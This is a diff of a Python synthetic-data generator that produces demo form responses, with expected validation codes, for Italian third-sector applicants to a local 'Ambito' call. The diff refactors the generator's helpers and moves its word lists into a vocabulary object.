     ctx.used_names[key] = n
     numbered = f"{base} {n}"
-    ctx.used_names[_identity_key(head, numbered)] = 1
+    ctx.used_names[_identity_key(ctx, head, numbered)] = 1
     return (numbered,)
 
 
@@ -887,60 +475,71 @@ def _areas(rng: random.Random, count: int) -> tuple[int, ...]:
     return tuple(sorted(rng.sample(range(count), k)))
 
 
-def _make_org(ctx: _Context, index: int, orgs: list[_Org], sibling: _Org | None) -> _Org:
+_Seat = tuple[
+    str, tuple[str, ...], str, str, bool
+]  # (comune, spellings, province, ISTAT province, in Ambito)
+
+
+def _new_identity(ctx: _Context, sibling: _Org | None) -> tuple[_Seat, str, tuple[str, ...], str, str]:
+    """(seat, head, cores, legal form key, kind) of the next organisation: new, or a look-alike of `sibling`."""
     rng = ctx.rng
     if sibling is None:
         outside = rng.random() < 0.05  # a few applicants have their seat outside the Ambito
         for _ in range(6):  # a fresh identity when the first ideas are taken
-            comune, spellings, province, istat_prov, in_ambito = _pick_comune(ctx, outside)
-            head, cores, form_key, kind = _identity(ctx, comune)
-            if _identity_key(head, cores[0]) not in ctx.used_names:
+            seat = _pick_comune(ctx, outside)
+            head, cores, form_key, kind = _identity(ctx, seat[0])
+            if _identity_key(ctx, head, cores[0]) not in ctx.used_names:
                 break
+        return seat, head, cores, form_key, kind
+    # a look-alike: the same network in another comune, or the next club number in the same comune
+    head, cores, form_key = sibling.head, sibling.cores, sibling.form_key
+    number = re.search(r" (\d+)$", cores[0])
+    if number:
+        seat = (sibling.comune, sibling.comune_spellings, sibling.province, sibling.office, sibling.in_ambito)
+        cores = (f"{cores[0][: number.start()]} {int(number.group(1)) + 1}",)
     else:
-        # a look-alike: the same network in another comune, or the next club number in the same comune
-        head, cores, form_key = sibling.head, sibling.cores, sibling.form.key
-        number = re.search(r" (\d+)$", cores[0])
-        if number:
-            comune, spellings, province, istat_prov, in_ambito = (
-                sibling.comune,
-                sibling.comune_spellings,
-                sibling.province,
-                sibling.office,
-                sibling.in_ambito,
-            )
-            cores = (f"{cores[0][: number.start()]} {int(number.group(1)) + 1}",)
-        else:
-            outside = rng.random() < 0.05
-            for _ in range(6):
-                comune, spellings, province, istat_prov, in_ambito = _pick_comune(ctx, outside)
-                if comune != sibling.comune:
-                    break
-            cores = tuple(c.replace(sibling.comune, comune) for c in cores)
-        kind = "sibling"
+        outside = rng.random() < 0.05
+        for _ in range(6):
+            seat = _pick_comune(ctx, outside)
+            if seat[0] != sibling.comune:
+                break
+        cores = tuple(c.replace(sibling.comune, seat[0]) for c in cores)
+    return seat, head, cores, form_key, "sibling"
+
+
+def _tax_codes(
+    ctx: _Context, form_key: str, form: LegalForm, kind: str, person: str, office: str
+) -> tuple[tuple[str, ...], bool]:
+    """An organisation's tax codes (codice fiscale, then partita IVA), and whether it is a person's."""
+    rng = ctx.rng
+    required = ctx.ambito.tax_code_required
+    informal = form_key == "nonric" and kind in {"place", "chain", "saint", "sibling"}
+    if form.company:
+        return (_new_code(ctx, "01", office),), False
+    if informal and not required and rng.random() < 0.35:
+        personal = rng.random() < 0.25
+        return ((_personal_code(ctx, person),) if personal else ()), personal
+    if form_key == "asd" and not required and rng.random() < 0.1:
+        return (), False
+    if informal and rng.random() < 0.03:
+        return (_personal_code(ctx, person),), True
+    cf = _new_code(ctx, "89", office)
+    return ((cf, _new_code(ctx, "01", office)) if rng.random() < form.vat else (cf,)), False
+
+
+def _make_org(ctx: _Context, index: int, orgs: list[_Org], sibling: _Org | None) -> _Org:
+    rng, v = ctx.rng, ctx.voc
+    (comune, spellings, province, istat_prov, in_ambito), head, cores, form_key, kind = _new_identity(
+        ctx, sibling
+    )
     cores = _unique(ctx, head, cores, comune)
-    form = _FORMS[form_key]
+    form = v.legal_forms[form_key]
     suffix = form.suffixes[0] if rng.random() < 0.7 else rng.choice(form.suffixes)
     office = _office(istat_prov)
     # where the avviso asks for RUNTS enrolment, most applicants are enrolled whatever their form
     runts_share = 1 - (1 - form.runts) * 0.3 if ctx.ambito.runts_required else form.runts
-    required = ctx.ambito.tax_code_required
-    informal = form.key == "nonric" and kind in {"place", "chain", "saint", "sibling"}
-    person = _person(rng)
-    tax_codes: tuple[str, ...]
-    personal = False
-    if form.company:
-        tax_codes = (_new_code(ctx, "01", office),)
-    elif informal and not required and rng.random() < 0.35:
-        personal = rng.random() < 0.25
-        tax_codes = (_personal_code(ctx, person),) if personal else ()
-    elif form.key == "asd" and not required and rng.random() < 0.1:
-        tax_codes = ()
-    elif informal and rng.random() < 0.03:
-        personal = True
-        tax_codes = (_personal_code(ctx, person),)
-    else:
-        cf = _new_code(ctx, "89", office)
-        tax_codes = (cf, _new_code(ctx, "01", office)) if rng.random() < form.vat else (cf,)
+    person = _person(rng, v)
+    tax_codes, personal = _tax_codes(ctx, form_key, form, kind, person, office)
     shared = [o for o in orgs[-50:] if o.personal_email]
     if shared and rng.random() < 0.02:
         # one person answers for two organisations: same email and phone, different bodies
@@ -948,25 +547,26 @@ def _make_org(ctx: _Context, index: int, orgs: list[_Org], sibling: _Org | None)
         person, email, personal_email, phone = other.person, other.email, True, other.phone
     else:
         personal_email = rng.random() < 0.5
-        email = _personal_email(rng, person) if personal_email else _org_email(rng, head, cores[0])
+        email = _personal_email(rng, v, person) if personal_email else _org_email(rng, v, head, cores[0])
         phone = _phone(ctx, province)
     slug = _slug(cores[0])
-    pec = f"{slug[:24]}@{rng.choice(PEC_DOMAINS)}" if rng.random() < (0.9 if form.company else 0.45) else ""
-    experience = "" if rng.random() < 0.15 else rng.choice(_EXPERIENCE)
+    pec = f"{slug[:24]}@{rng.choice(v.pec_domains)}" if rng.random() < (0.9 if form.company else 0.45) else ""
+    experience = "" if rng.random() < 0.15 else rng.choice(v.experience)
     if rng.random() < 0.03:
-        experience = rng.choice(_FORMULA_TEXT).format(lead=ctx.comuni[ctx.lead][0])
-    street, number_ = rng.choice(_STREETS), rng.randint(1, 120)
+        experience = rng.choice(v.formula_text).format(lead=ctx.comuni[ctx.lead][0])
+    street, number_ = rng.choice(v.streets), rng.randint(1, 120)
     address = f"{street} {number_}"
     if rng.random() < 0.01:
-        address = rng.choice(_FORMULA_ADDRESS).format(street=street, n=number_)
+        address = rng.choice(v.formula_address).format(street=street, n=number_)
     return _Org(
         index=index,
         entity=f"E{index + 1:05d}",
+        form_key=form_key,
         form=form,
         head=head,
         cores=cores,
         suffix=suffix,
-        bare=_drop_article(cores[0]) != cores[0] and rng.random() < 0.15,
+        bare=_drop_article(v, cores[0]) != cores[0] and rng.random() < 0.15,
         comune=comune,
         comune_spellings=spellings,
         province=province,
@@ -986,17 +586,18 @@ def _make_org(ctx: _Context, index: int, orgs: list[_Org], sibling: _Org | None)
     )
 
 
-def _org_email(rng: random.Random, head: str, core: str) -> str:
+def _org_email(rng: random.Random, v: Vocabulary, head: str, core: str) -> str:
     slug = _slug(f"{head} {core}" if rng.random() < 0.4 else core)
     style = rng.random()
+    info, office = v.org_email
     local = (
         slug[: rng.randint(14, 24)]
         if style < 0.7
-        else f"info.{slug[:18]}"
+        else f"{info}{slug[:18]}"
         if style < 0.85
-        else (f"segreteria{slug[:14]}")
+        else (f"{office}{slug[:14]}")
     )
-    return f"{local}@{rng.choice(MAIL_PROVIDERS)}"
+    return f"{local}@{rng.choice(v.mail_providers)}"
 
 
 def _make_organisations(ctx: _Context, count: int) -> list[_Org]:
@@ -1005,7 +606,7 @@ def _make_organisations(ctx: _Context, count: int) -> list[_Org]:
     while len(orgs) < count:
         sibling = None
         if orgs and rng.random() < 0.06:
-            candidates = [o for o in orgs[-30:] if o.head == "" and o.form.key != "coop"]
+            candidates = [o for o in orgs[-30:] if o.head == "" and o.form_key != "coop"]
             if candidates:
                 sibling = rng.choice(candidates)
         orgs.append(_make_org(ctx, len(orgs), orgs, sibling))
@@ -1037,15 +638,15 @@ def _typo(rng: random.Random, text: str) -> str:
     return " ".join(words)
 
 
-def _drop_article(core: str) -> str:
-    for article in _ARTICLES:
+def _drop_article(v: Vocabulary, core: str) -> str:
+    for article in v.articles:
         if core.startswith(article):
             rest = core[len(article) :]
             return rest[:1].upper() + rest[1:]
     return core
 
 
-def _name(rng: random.Random, org: _Org, noise: float) -> str:
+def _name(rng: random.Random, v: Vocabulary, org: _Org, noise: float) -> str:
     """The organisation's name as typed in one response; `noise` scales how much it strays."""
 
     def chance(p: float) -> bool:
@@ -1056,8 +657,9 @@ def _name(rng: random.Random, org: _Org, noise: float) -> str:
         core = rng.choice(org.cores[1:])
     head = org.head
     if org.bare != chance(0.1):
-        core = _drop_article(core)
-    if head == "Associazione" and chance(0.1):
+        core = _drop_article(v, core)
+    association = v.names.association
+    if head == association and chance(0.1):
         head = ""
     if chance(0.1):
         core = _typo(rng, core)
@@ -1073,7 +675,7 @@ def _name(rng: random.Random, org: _Org, noise: float) -> str:
     if chance(0.25):
         suffix = rng.choice(org.form.suffixes)
     prefix = rng.choice(org.form.prefixes) if org.form.prefixes and chance(0.08) else ""
-    if prefix and not (prefix.startswith("Associazione") and "Associazione" in base):
+    if prefix and not (prefix.startswith(association) and association in base):
         text = f"{prefix} {base}"
     else:
         text = f"{base} {suffix}".strip()
@@ -1170,154 +772,200 @@ class _Outcome:
     warnings: list[str]
 
 
+@dataclass(slots=True)
+class _Draft:
+    """One response's answers while they are drawn, and what the product's rules will say of them."""
+
+    person: str
+    email: str
+    phone: str
+    name: str = ""
+    tax: str = ""
+    tax_state: str = "ok"  # ok | missing | invalid | persona
+    comune: str = ""
+    comune_state: str = "in"  # in | out | unknown
+    runts: str = ""
+    area_text: str = ""
+    phases: str = ""
+    experience: str = ""
+    pec: str = ""
+    pec_bad: bool = False
+    consent: str = ""
+    name_blank: bool = False
+    test: bool = False
+    email_bad: bool = False
+    consent_blank: bool = False
+    no_area: bool = False
+
+
+def _contact(ctx: _Context, row: _Row, noise: float) -> _Draft:
+    """The contact person, email and phone of a response (a repeat may name a new contact person)."""
+    rng, org = ctx.rng, row.org
+    person, email, phone = org.person, org.email, org.phone
+    if row.seq > 0 and rng.random() < 0.15:
+        # a new contact person: name and phone change; a personal email follows the person
+        person = _person(rng, ctx.voc)
+        phone = _phone(ctx, org.province)
+        if org.personal_email:
+            email = _personal_email(rng, ctx.voc, person)
+    if rng.random() < 0.12 * noise:
+        email = email.upper()
+    return _Draft(person, email, phone)
+
+
+def _tax_answer(ctx: _Context, org: _Org, noise: float, d: _Draft) -> None:
+    if not org.tax_codes:
+        d.tax, d.tax_state = "", "missing"
+    elif not ctx.ambito.tax_code_required and ctx.rng.random() < 0.04:
+        d.tax, d.tax_state = "", "missing"  # left blank where the avviso does not ask for it
+    else:
+        d.tax = _tax_code(ctx.rng, org, noise)
+        d.tax_state = "persona" if org.personal_code else "ok"
+
+
+def _phases(ctx: _Context, row: _Row) -> str:
+    rng = ctx.rng
+    if row.late:
+        return ctx.late_phases
+    if not ctx.phases:
+        return ""
+    p = rng.random()
+    if p < 0.75:
+        return ", ".join(ctx.phases)
+    if p < 0.95:
+        k = rng.randint(1, len(ctx.phases))
+        return ", ".join(ctx.phases[i] for i in sorted(rng.sample(range(len(ctx.phases)), k)))
+    return ""
+
+
+def _draft(ctx: _Context, row: _Row, noise: float) -> _Draft:
+    """Every answer of a response as the organisation types it this time."""
+    rng, org = ctx.rng, row.org
+    repeat = row.seq > 0
+    d = _contact(ctx, row, noise)
+    d.name = _name(rng, ctx.voc, org, noise)
+    _tax_answer(ctx, org, noise, d)
+    d.comune = _comune(rng, ctx, org, noise)
+    d.comune_state = "in" if org.in_ambito else "out"
+    if org.in_ambito and rng.random() < 0.007:
+        d.comune, d.comune_state = _misspelt_comune(rng, org.comune), "unknown"
+    d.runts = org.runts
+    if d.runts and rng.random() < 0.02:
+        d.runts = ""
+    elif d.runts and rng.random() < 0.06:
+        d.runts = rng.choice(ctx.voc.runts_prefixes) + d.runts
+    areas = org.areas
+    if repeat and rng.random() < 0.4:
+        areas = _areas(rng, len(ctx.areas))
+    d.area_text = ", ".join(ctx.areas[i] for i in areas)
+    d.phases = _phases(ctx, row)
+    d.experience = org.experience
+    if repeat and rng.random() < 0.2:
+        d.experience = "" if rng.random() < 0.3 else rng.choice(ctx.voc.experience)
+    d.pec = org.pec
+    if d.pec and rng.random() < 0.005:
+        local, _, domain = d.pec.partition("@")
+        d.pec, d.pec_bad = f"{local}@{domain.split('.')[0]}", True  # "nome@pec": no top-level domain
+    d.consent = ctx.voc.consent
+    return d
+
+
+def _inject(ctx: _Context, row: _Row, d: _Draft) -> None:
+    """The row's injected problems: an answer left blank or typed wrong, a test submission."""
+    rng = ctx.rng
+    for problem in row.problems:
+        if problem == "consent":
+            d.consent, d.consent_blank = "", True
+        elif problem == "name":
+            d.name, d.name_blank = rng.choice(("", "   ", " ")), True
+        elif problem == "areas":
+            d.area_text, d.no_area = "", True
+        elif problem == "email":
+            d.email_bad = True
+            first, _, last = d.person.partition(" ")
+            f, sur = _slug(first), _slug(last)
+            d.email = rng.choice(tuple(t.format(first=f, surname=sur) for t in ctx.voc.bad_emails))
+        elif problem == "test":
+            d.test = True
+            word = rng.choice(ctx.test_words) if ctx.test_words else ctx.voc.test_name_fallback
+            d.name = rng.choice((word, word.upper(), word.capitalize()))
+            if ctx.test_emails and rng.random() < 0.4:
+                d.email = rng.choice(ctx.test_emails)
+        elif problem == "cf_invalid":
+            d.tax_state = "invalid"
+            d.tax = _invalid_code(rng, ctx.voc, row.org)
+        elif problem == "cf_missing":
+            d.tax, d.tax_state = "", "missing"
+
+
+def _codes(ambito: Ambito, row: _Row, d: _Draft) -> tuple[list[str], list[str]]:
+    """The blocking and warning codes, in the order the validator reports them."""
+    flags = (
+        (d.test, "invio_di_prova"),
+        (d.name_blank, "denominazione_mancante"),
+        (d.consent_blank, "consenso_mancante"),
+        (d.no_area, "nessuna_area"),
+        (d.email_bad, "email_non_valida"),
+    )
+    blocking = [code for flag, code in flags if flag]
+    warnings: list[str] = []
+    tax_codes = {"missing": "cf_mancante", "invalid": "cf_non_valido"}
+    if d.tax_state in tax_codes:
+        (blocking if ambito.tax_code_required else warnings).append(tax_codes[d.tax_state])
+    warnings += _warnings(ambito, row, d)
+    if d.test:
+        blocking = ["invio_di_prova"]  # a test is reported as such, not as a list of missing answers
+    return blocking, warnings
+
+
+def _warnings(ambito: Ambito, row: _Row, d: _Draft) -> list[str]:
+    warnings: list[str] = []
+    if d.tax_state == "persona":
+        warnings.append("cf_persona_fisica")
+    if d.comune_state == "unknown":
+        warnings.append("comune_sconosciuto")
+    elif d.comune_state == "out":
+        warnings.append("comune_fuori_ambito")
+    if ambito.runts_required and not d.runts:
+        warnings.append("runts_mancante")
+    if d.pec_bad:
+        warnings.append("pec_non_valida")
+    if row.late:
+        warnings.append("oltre_scadenza")
+    return warnings
+
+
 def _render(ctx: _Context, row: _Row) -> _Outcome:
     """One response row's cells and the codes the product's rules give it."""
     rng, org, ambito = ctx.rng, row.org, ctx.ambito
     noise = 0.45 if row.seq == 0 else 1.0
-    repeat = row.seq > 0
-    person, email, phone = org.person, org.email, org.phone
-    if repeat and rng.random() < 0.15:
-        # a new contact person: name and phone change; a personal email follows the person
-        person = _person(rng)
-        phone = _phone(ctx, org.province)
-        if org.personal_email:
-            email = _personal_email(rng, person)
-    if rng.random() < 0.12 * noise:
-        email = email.upper()
-    name = _name(rng, org, noise)
-    tax_state = "ok"
-    if not org.tax_codes:
-        tax = ""
-        tax_state = "missing"
-    elif not ambito.tax_code_required and rng.random() < 0.04:
-        tax, tax_state = "", "missing"  # left blank where the avviso does not ask for it
-    else:
-        tax = _tax_code(rng, org, noise)
-        tax_state = "persona" if org.personal_code else "ok"
-    comune = _comune(rng, ctx, org, noise)
-    comune_state = "in" if org.in_ambito else "out"
-    if org.in_ambito and rng.random() < 0.007:
-        comune, comune_state = _misspelt_comune(rng, org.comune), "unknown"
-    runts = org.runts
-    if runts and rng.random() < 0.02:
-        runts = ""
-    elif runts and rng.random() < 0.06:
-        runts = rng.choice(("n. ", "Rep. ", "RUNTS ")) + runts
-    areas = org.areas
-    if repeat and rng.random() < 0.4:
-        areas = _areas(rng, len(ctx.areas))
-    area_text = ", ".join(ctx.areas[i] for i in areas)
-    if row.late:
-        phases = ctx.late_phases
-    elif not ctx.phases:
-        phases = ""
-    else:
-        p = rng.random()
-        if p < 0.75:
-            phases = ", ".join(ctx.phases)
-        elif p < 0.95:
-            k = rng.randint(1, len(ctx.phases))
-            phases = ", ".join(ctx.phases[i] for i in sorted(rng.sample(range(len(ctx.phases)), k)))
-        else:
-            phases = ""
-    experience = org.experience
-    if repeat and rng.random() < 0.2:
-        experience = "" if rng.random() < 0.3 else rng.choice(_EXPERIENCE)
-    pec = org.pec
-    pec_bad = False
-    if pec and rng.random() < 0.005:
-        local, _, domain = pec.partition("@")
-        pec, pec_bad = f"{local}@{domain.split('.')[0]}", True  # "nome@pec": no top-level domain
-    consent = CONSENT
-    name_blank = test = email_bad = False
-    consent_blank = no_area = False
-    for problem in row.problems:
-        if problem == "consent":
-            consent, consent_blank = "", True
-        elif problem == "name":
-            name, name_blank = rng.choice(("", "   ", " ")), True
-        elif problem == "areas":
-            area_text, no_area = "", True
-        elif problem == "email":
-            email_bad = True
-            first, _, last = person.partition(" ")
-            f, sur = _slug(first), _slug(last)
-            email = rng.choice(
-                (
-                    f"{f}.{sur}@gmail",
-                    f"{f} {sur}@libero.it",
-                    "",
-                    f"{f}.{sur}.libero.it",
-                    f"{f}.{sur}@gmail..com",
-                )
-            )
-        elif problem == "test":
-            test = True
-            word = rng.choice(ctx.test_words) if ctx.test_words else _TEST_NAME_FALLBACK
-            name = rng.choice((word, word.upper(), word.capitalize()))
-            if ctx.test_emails and rng.random() < 0.4:
-                email = rng.choice(ctx.test_emails)
-        elif problem == "cf_invalid":
-            tax_state = "invalid"
-            tax = _invalid_code(rng, org)
-        elif problem == "cf_missing":
-            tax, tax_state = "", "missing"
-    timestamp = (ambito.opens + timedelta(seconds=row.at)).strftime("%d/%m/%Y %H.%M.%S")
+    d = _draft(ctx, row, noise)
+    _inject(ctx, row, d)
     values = {
-        "timestamp": timestamp,
-        "email": email,
-        "name": name,
-        "tax_code": tax,
+        "timestamp": (ambito.opens + timedelta(seconds=row.at)).strftime("%d/%m/%Y %H.%M.%S"),
+        "email": d.email,
+        "name": d.name,
+        "tax_code": d.tax,
         "legal_form": org.form.label,
-        "runts": runts,
-        "comune": comune,
+        "runts": d.runts,
+        "comune": d.comune,
         "address": _address_variant(rng, org.address, noise),
-        "contact_name": person,
-        "phone": _phone_variant(rng, phone, noise),
-        "pec": pec,
-        "areas": area_text,
-        "phases": phases,
-        "experience": experience,
-        "consent": consent,
+        "contact_name": d.person,
+        "phone": _phone_variant(rng, d.phone, noise),
+        "pec": d.pec,
+        "areas": d.area_text,
+        "phases": d.phases,
+        "experience": d.experience,
+        "consent": d.consent,
     }
-    # codes in the order the validator reports them
-    required = ambito.tax_code_required
-    blocking: list[str] = []
-    warnings: list[str] = []
-    if test:
-        blocking.append("invio_di_prova")
-    if name_blank:
-        blocking.append("denominazione_mancante")
-    if consent_blank:
-        blocking.append("consenso_mancante")
-    if no_area:
-        blocking.append("nessuna_area")
-    if email_bad:
-        blocking.append("email_non_valida")
-    tax_codes = {"missing": "cf_mancante", "invalid": "cf_non_valido"}
-    if tax_state in tax_codes:
-        (blocking if required else warnings).append(tax_codes[tax_state])
-    elif tax_state == "persona":
-        warnings.append("cf_persona_fisica")
-    if comune_state == "unknown":
-        warnings.append("comune_sconosciuto")
-    elif comune_state == "out":
-        warnings.append("comune_fuori_ambito")
-    if ambito.runts_required and not runts:
-        warnings.append("runts_mancante")
-    if pec_bad:
-        warnings.append("pec_non_valida")
-    if row.late:
-        warnings.append("oltre_scadenza")
-    if test:
-        blocking = ["invio_di_prova"]  # a test is reported as such, not as a list of missing answers
+    blocking, warnings = _codes(ambito, row, d)
     return _Outcome([values[f] for f in FIELDS], blocking, warnings)
 
 
-def _invalid_code(rng: random.Random, org: _Org) -> str:
+def _invalid_code(rng: random.Random, v: Vocabulary, org: _Org) -> str:
     """A tax code that fails validation: wrong check digit, digits missing, a letter O, or a phrase."""
     if not org.tax_codes:
-        return rng.choice(("non disponibile", "in attesa di attribuzione", "0"))
+        return rng.choice(v.no_tax_code)
     code = org.tax_codes[0]
     r = rng.random()
     if r < 0.4:
@@ -1331,7 +979,7 @@ def _invalid_code(rng: random.Random, org: _Org) -> str:
     if r < 0.8 and "0" in code[1:]:
         i = code.index("0", 1)
         return code[:i] + "O" + code[i + 1 :]
-    return rng.choice(("non disponibile", "in corso di attribuzione", "N.D."))
+    return rng.choice(v.not_a_tax_code)
 
 
 def _schedule(ctx: _Context, rows_by_org: list[list[_Row]]) -> None:
@@ -1366,12 +1014,16 @@ def generate(
     ambito: Ambito,
     organisations: int = 300,
     *,
+    vocabulary: Vocabulary,
     seed: int = 1,
     late_share: float = 0.15,
     problem_share: float = 0.06,
     repeat_share: float = 0.3,
 ) -> DemoSet:
-    """Generate a realistic set of form responses for the Ambito, with the expected outcome of every row."""
+    """Generate a realistic set of form responses for the Ambito, with the expected outcome of every row.
+
+    `vocabulary`: the words to draw from, `load_vocabulary()` (read once by the caller).
+    """
     if organisations < 0:
         raise ValueError("organisations must be >= 0")
     for label, share in (
@@ -1382,7 +1034,7 @@ def generate(
         if not 0.0 <= share <= 1.0:
             raise ValueError(f"{label} must be between 0 and 1, not {share}")
     rng = random.Random(seed)
-    ctx = _context(ambito, rng)
+    ctx = _context(ambito, rng, vocabulary)
     orgs = _make_organisations(ctx, organisations)
     repeaters = set(rng.sample(range(len(orgs)), round(repeat_share * len(orgs))))
     rows_by_org: list[list[_Row]] = []
@@ -1469,44 +1121,6 @@ def summary(demo: DemoSet) -> dict[str, int]:
 
 # What each Ambito's demo shows beyond the generated responses (issue 14) -------------------------------------
 
-# (name, legal form, comune, area number, e-mail user) — bodies whose category the demo is there to show
-_EXTRA_FORM: dict[str, tuple[tuple[str, str, str, int, str], ...]] = {
-    # Crema admits only ETS: a union applying is flagged `ente_non_ets` for staff to decide
-    "crema": (("CGIL Camera del Lavoro di Crema", "Organizzazione sindacale", "Crema", 2, "crema.cgil"),),
-    # Cernusco invites public bodies too: they apply like everyone else
-    "cernusco": (
-        ("Comune di Pioltello - Settore Servizi Sociali", "", "Pioltello", 0, "servizi.sociali"),
-        ("Istituto Comprensivo Statale di Gorgonzola", "", "Gorgonzola", 0, "segreteria.ic"),
-        ("ASST Melegnano e della Martesana", "", "Cernusco sul Naviglio", 1, "distretto.adda"),
-    ),
-}
-# (name, legal form, comune, area number, protocol) — Allegato 1 received by PEC, typed in `Domande manuali`
-_EXTRA_MANUAL: dict[str, tuple[tuple[str, str, str, int, str], ...]] = {
-    "cernusco": (
-        (
-            "Cooperativa Sociale Il Melograno",
-            "Impresa sociale - cooperativa sociale",
-            "Carugate",
-            1,
-            "2019/18231",
-        ),
-        (
-            "Associazione Genitori Insieme APS",
-            "Associazione di promozione sociale (APS)",
-            "Bussero",
-            0,
-            "2019/18547",
-        ),
-        (
-            "Parrocchia Santa Maria Assunta",
-            "Ente religioso civilmente riconosciuto",
-            "Gessate",
-            2,
-            "2019/18802",
-        ),
-    ),
-}
-
 
 @dataclass(frozen=True, slots=True)
 class DemoExtras:
@@ -1518,15 +1132,16 @@ class DemoExtras:
     ]  # in `sync.manual.manual_header` order: the form's fields, Canale, Protocollo
 
 
-def demo_extras(ambito: Ambito, *, seed: int = 1) -> DemoExtras:
+def demo_extras(ambito: Ambito, *, vocabulary: Vocabulary, seed: int = 1) -> DemoExtras:
     """The Ambito's showcase rows: a union applying to Crema, public bodies and PEC applications in Cernusco."""
     rng = random.Random(seed * 7919 + 14)
-    ctx = _context(ambito, rng)
+    v = vocabulary
+    ctx = _context(ambito, rng, v)
     span = max(1, int((ambito.deadline - ambito.opens).total_seconds() * 0.8))
     areas = [a.label for a in ambito.areas]
 
     def values(name: str, form: str, comune: str, area: int, email: str, pec: str, when: str) -> list[str]:
-        person = _person(rng)
+        person = _person(rng, v)
         by_field = {
             "timestamp": when,
             "email": email,
@@ -1535,30 +1150,30 @@ def demo_extras(ambito: Ambito, *, seed: int = 1) -> DemoExtras:
             "legal_form": form,
             "runts": "",
             "comune": comune,
-            "address": f"{rng.choice(_STREETS)} {rng.randrange(1, 80)}",
+            "address": f"{rng.choice(v.streets)} {rng.randrange(1, 80)}",
             "contact_name": person,
             "phone": _phone(ctx, ambito.province),
             "pec": pec,
             "areas": areas[area % len(areas)],
             "phases": "",
-            "experience": rng.choice(_EXPERIENCE),
-            "consent": ambito.form.consent_label or CONSENT,
+            "experience": rng.choice(v.experience),
+            "consent": ambito.form.consent_label or v.consent,
         }
         return [by_field[f] for f in FIELDS]
 
     form_rows = []
-    for name, form, comune, area, user in _EXTRA_FORM.get(ambito.code, ()):
+    for name, form, comune, area, user in v.extra_form.get(ambito.code, ()):
         at = ambito.opens + timedelta(seconds=rng.randrange(span))
         domain = _slug(name.split(" - ")[0])[:24] + ".it"
         form_rows.append(
             values(name, form, comune, area, f"{user}@{domain}", "", at.strftime("%d/%m/%Y %H.%M.%S"))
         )
     manual_rows = []
-    for name, form, comune, area, protocol in _EXTRA_MANUAL.get(ambito.code, ()):
+    for name, form, comune, area, protocol in v.extra_manual.get(ambito.code, ()):
         at = ambito.opens + timedelta(seconds=rng.randrange(span))
-        pec = f"{_slug(name)[:20]}@{rng.choice(PEC_DOMAINS)}"
+        pec = f"{_slug(name)[:20]}@{rng.choice(v.pec_domains)}"
         manual_rows.append(
-            [*values(name, form, comune, area, "", pec, at.strftime("%d/%m/%Y")), "PEC", protocol]
+            [*values(name, form, comune, area, "", pec, at.strftime("%d/%m/%Y")), v.manual_channel, protocol]
         )
     return DemoExtras(form_rows, manual_rows)
 
